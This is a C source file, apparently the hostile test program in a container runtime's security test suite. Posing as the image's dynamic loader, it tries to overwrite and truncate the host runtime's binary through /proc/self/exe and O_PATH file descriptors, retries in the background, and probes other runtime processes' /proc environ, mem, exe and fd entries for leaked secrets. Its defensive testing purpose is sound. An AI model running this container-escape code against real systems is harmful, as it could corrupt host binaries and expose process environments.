/* SPDX-License-Identifier: Apache-2.0 */
/*
 * evil.c: the hostile program of the attack tests, built freestanding and
 * static (no libc: it also runs as the "dynamic loader" of hrun's binary,
 * where glibc's static start-up would read hrun's program headers).
 * Modes by argv[0]:
 *   (anything else)  the image's /lib64/ld-linux-x86-64.so.2, run by the
 *                    kernel for `#!/proc/self/exe`: try every way to open
 *                    /proc/self/exe for writing (directly, and through
 *                    /proc/self/fd of an O_PATH fd), then exec "retry"
 *                    keeping the O_PATH fd;
 *   retry FD         (forks to the background unless pid 1) retries
 *                    writing through /proc/self/fd/FD for ~2 s, i.e. after
 *                    the hrun processes have exited;
 *   X watch MARK MS  (argv[1] "watch") for MS ms, opens /proc/PID/{environ,mem,exe,fd} of
 *                    every process named "hrun" (hrun's code) and reports
 *                    any open that succeeds while it still runs hrun, and
 *                    the runtime's environment (MARK) if it leaks.
 * Every line starts with "evil:"; the last one is "evil: DONE".
 */
#define O_RDONLY 00
#define O_WRONLY 01
#define O_RDWR 02
#define O_TRUNC 01000
#define O_DIRECTORY 0200000
#define O_PATH 010000000
#define AT_FDCWD -100

typedef unsigned long u64;

static long sys(long n, long a, long b, long c, long d)
{
	long r;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return r;
}

#define S_READ 0
#define S_WRITE 1
#define S_CLOSE 3
#define S_PWRITE 18
#define S_GETPID 39
#define S_GETUID 102
#define S_CLONE 56
#define S_EXECVE 59
#define S_EXIT 60
#define S_FTRUNCATE 77
#define S_GETDENTS64 217
#define S_CLOCK_NANOSLEEP 230
#define S_CLOCK_GETTIME 228
#define S_OPENAT 257
#define S_READLINKAT 267

static u64 slen(const char *s)
{
	u64 n = 0;
	while (s[n])
		n++;
	return n;
}

static int seq(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

static int contains(const char *h, long n, const char *needle)
{
	long m = (long)slen(needle);

	for (long i = 0; i + m <= n; i++) {
		long j = 0;
		while (j < m && h[i + j] == needle[j])
			j++;
		if (j == m)
			return 1;
	}
	return 0;
}

static char *num(char *p, long v)
{
	char t[24];
	int n = 0;

	if (v < 0)
		*p++ = '-', v = -v;
	do
		t[n++] = (char)('0' + v % 10);
	while (v /= 10);
	while (n)
		*p++ = t[--n];
	return p;
}

static char *cat(char *p, const char *s)
{
	while (*s)
		*p++ = *s++;
	return p;
}

static long atol_(const char *s)
{
	long v = 0;
	while (*s >= '0' && *s <= '9')
		v = v * 10 + (*s++ - '0');
	return v;
}

static void say(const char *a, const char *b, long v, int with_v)
{
	char buf[512], *p = buf;

	p = cat(p, "evil: ");
	p = cat(p, a);
	p = cat(p, b);
	if (with_v)
		p = num(p, v);
	*p++ = '\n';
	(void)sys(S_WRITE, 1, (long)buf, p - buf, 0);
}

static void sleep_ms(long ms)
{
	long ts[2] = {ms / 1000, (ms % 1000) * 1000000};
	(void)sys(S_CLOCK_NANOSLEEP, 1 /* CLOCK_MONOTONIC */, 0, (long)ts, 0);
}

static long now_ms(void)
{
	long ts[2];
	(void)sys(S_CLOCK_GETTIME, 1, (long)ts, 0, 0);
	return ts[0] * 1000 + ts[1] / 1000000;
}

/* Try to modify the file open as FD: a write at offset 0 and a truncate.
 * Returns 1 when either succeeded. */
static int try_modify(int fd, const char *what)
{
	long w = sys(S_PWRITE, fd, (long)"EVIL", 4, 0);
	long t = sys(S_FTRUNCATE, fd, 4096, 0, 0);

	say(what, w > 0 ? ": WROTE the binary" : ": write failed, errno ", -w, w <= 0);
	say(what, t == 0 ? ": TRUNCATED the binary" : ": ftruncate failed, errno ", -t, t != 0);
	return w > 0 || t == 0;
}

/* open PATH with FLAGS; report; try to modify it when opened */
static int try_open(const char *path, long flags, const char *what)
{
	long fd = sys(S_OPENAT, AT_FDCWD, (long)path, flags, 0);
	int hit;

	if (fd < 0) {
		say(what, ": open failed, errno ", -fd, 1);
		return 0;
	}
	say(what, ": opened for writing", 0, 0);
	hit = try_modify((int)fd, what);
	(void)sys(S_CLOSE, fd, 0, 0, 0);
	return hit;
}

static void loader(char **envp)
{
	char link[256], fdpath[64], fdnum[24], *p;
	long n = sys(S_READLINKAT, AT_FDCWD, (long)"/proc/self/exe", (long)link, sizeof(link) - 1);
	long opath;
	char *argv[3];

	link[n > 0 ? n : 0] = 0;
	say("loader running, /proc/self/exe -> ", link, 0, 0);
	say("loader uid ", "", sys(S_GETUID, 0, 0, 0, 0), 1);
	try_open("/proc/self/exe", O_WRONLY, "/proc/self/exe O_WRONLY");
	try_open("/proc/self/exe", O_RDWR, "/proc/self/exe O_RDWR");
	try_open("/proc/self/exe", O_WRONLY | O_TRUNC, "/proc/self/exe O_WRONLY|O_TRUNC");
	opath = sys(S_OPENAT, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
	if (opath < 0) {
		say("O_PATH open failed, errno ", "", -opath, 1);
		say("DONE", "", 0, 0);
		sys(S_EXIT, 0, 0, 0, 0);
	}
	p = cat(fdpath, "/proc/self/fd/");
	*num(p, opath) = 0;
	n = sys(S_READLINKAT, AT_FDCWD, (long)fdpath, (long)link, sizeof(link) - 1);
	link[n > 0 ? n : 0] = 0;
	say("O_PATH fd -> ", link, 0, 0);
	try_open(fdpath, O_RDWR, "reopen O_PATH fd O_RDWR");
	try_open(fdpath, O_WRONLY, "reopen O_PATH fd O_WRONLY");
	/* drop our mapping of the binary: keep only the O_PATH fd */
	*num(fdnum, opath) = 0;
	argv[0] = "retry";
	argv[1] = fdnum;
	argv[2] = 0;
	n = sys(S_EXECVE, (long)"/lib64/ld-linux-x86-64.so.2", (long)argv, (long)envp, 0);
	say("exec retry failed, errno ", "", -n, 1);
	say("DONE", "", 0, 0);
	sys(S_EXIT, 0, 0, 0, 0);
}

static void retry(const char *fdnum)
{
	char fdpath[64];
	long fd = -1, err = 0, deadline;
	int tries = 0;

	/* not pid 1: let `hrun exec` return, as a real attacker would */
	if (sys(S_GETPID, 0, 0, 0, 0) != 1) {
		long pid = sys(S_CLONE, 17 /* SIGCHLD */, 0, 0, 0);
		if (pid != 0)
			sys(S_EXIT, 0, 0, 0, 0);
	}
	*num(cat(fdpath, "/proc/self/fd/"), atol_(fdnum)) = 0;
	deadline = now_ms() + 2000;
	while (now_ms() < deadline) {
		tries++;
		fd = sys(S_OPENAT, AT_FDCWD, (long)fdpath, O_RDWR, 0);
		if (fd >= 0) {
			long w = sys(S_PWRITE, fd, (long)"EVIL", 4, 0);
			long t = sys(S_FTRUNCATE, fd, 4096, 0, 0);
			(void)sys(S_CLOSE, fd, 0, 0, 0);
			if (w > 0 || t == 0) {
				say("retry: MODIFIED the binary after tries: ", "", tries, 1);
				break;
			}
			err = w < 0 ? -w : -t;
		} else {
			err = -fd;
		}
		sleep_ms(20);
	}
	say("retry: tries ", "", tries, 1);
	say("retry: last errno ", "", err, 1);
	say("DONE", "", 0, 0);
}

/* read /proc/PID/comm: 1 when it is "hrun" */
static int is_hrun(const char *pid)
{
	char path[64], comm[32];
	long fd, n;

	*cat(cat(cat(path, "/proc/"), pid), "/comm") = 0;
	fd = sys(S_OPENAT, AT_FDCWD, (long)path, O_RDONLY, 0);
	if (fd < 0)
		return 0;
	n = sys(S_READ, fd, (long)comm, sizeof(comm) - 1, 0);
	(void)sys(S_CLOSE, fd, 0, 0, 0);
	if (n <= 0)
		return 0;
	comm[n] = 0;
	return seq(comm, "hrun\n");
}

/* fds of an open /proc/PID/fd we can resolve: listing the numbers is
 * allowed to the owner's uid, following them needs ptrace access */
static long count_fds(int dfd)
{
	char d[4096], link[256];
	long n, c = 0;

	while ((n = sys(S_GETDENTS64, dfd, (long)d, sizeof(d), 0)) > 0)
		for (long off = 0; off < n; off += *(unsigned short *)(d + off + 16))
			if (d[off + 19] != '.' &&
			    sys(S_READLINKAT, dfd, (long)(d + off + 19), (long)link, sizeof(link)) > 0)
				c++;
	return c;
}

static int reported;

/* probe one pid running hrun: returns the number of leaks */
static int probe(const char *pid, const char *mark)
{
	static const struct {
		const char *file;
		long flags;
	} p[] = {{"/environ", O_RDONLY}, {"/mem", O_RDWR}, {"/exe", O_RDWR},
		 {"/exe", O_WRONLY}, {"/fd", O_RDONLY | O_DIRECTORY}};
	char path[64], buf[4096];
	int leaks = 0;

	for (unsigned i = 0; i < sizeof(p) / sizeof(p[0]); i++) {
		long fd, n;

		*cat(cat(cat(path, "/proc/"), pid), p[i].file) = 0;
		fd = sys(S_OPENAT, AT_FDCWD, (long)path, p[i].flags, 0);
		if (fd < 0)
			continue;
		n = 0;
		if (p[i].file[1] == 'e' && p[i].file[2] == 'n')
			n = sys(S_READ, fd, (long)buf, sizeof(buf), 0);
		if (p[i].file[2] == 'x' && try_modify((int)fd, path))
			leaks++;
		/* fd/ opens and lists for the same uid: following them leaks */
		if (p[i].file[1] == 'f' && count_fds((int)fd) == 0) {
			(void)sys(S_CLOSE, fd, 0, 0, 0);
			continue;
		}
		(void)sys(S_CLOSE, fd, 0, 0, 0);
		/* only while it still runs hrun's code (comm changes at execve) */
		if (!is_hrun(pid))
			continue;
		leaks++;
		if (reported++ < 20)
			say("LEAK opened ", path, 0, 0);
		if (n > 0 && contains(buf, n, mark) && reported < 40)
			say("LEAK the runtime's environment via ", path, 0, 0);
	}
	return leaks;
}

static void watch(const char *mark, long ms)
{
	char dents[8192], self[24];
	long deadline = now_ms() + ms, seen = 0, leaks = 0, last = 0;

	*num(self, sys(S_GETPID, 0, 0, 0, 0)) = 0;
	say("watching", "", 0, 0);
	while (now_ms() < deadline) {
		long dfd = sys(S_OPENAT, AT_FDCWD, (long)"/proc", O_RDONLY | O_DIRECTORY, 0), n;

		if (dfd < 0)
			break;
		while ((n = sys(S_GETDENTS64, dfd, (long)dents, sizeof(dents), 0)) > 0) {
			for (long off = 0; off < n;) {
				unsigned short reclen = *(unsigned short *)(dents + off + 16);
				char *name = dents + off + 19;

				off += reclen;
				if (name[0] < '1' || name[0] > '9' || seq(name, self) || !is_hrun(name))
					continue;
				if (atol_(name) != last)
					seen++, last = atol_(name);
				leaks += probe(name, mark);
			}
		}
		(void)sys(S_CLOSE, dfd, 0, 0, 0);
	}
	say("watch: hrun processes seen: ", "", seen, 1);
	say("watch: leaks: ", "", leaks, 1);
	say("DONE", "", 0, 0);
}

void __attribute__((used)) evil_main(long *sp)
{
	long argc = sp[0];
	char **argv = (char **)(sp + 1);
	char **envp = argv + argc + 1;

	if (argc >= 2 && seq(argv[0], "retry"))
		retry(argv[1]);
	else if (argc >= 4 && seq(argv[1], "watch"))
		watch(argv[2], atol_(argv[3]));
	else
		loader(envp);
	sys(S_EXIT, 0, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall evil_main\n\thlt\n");
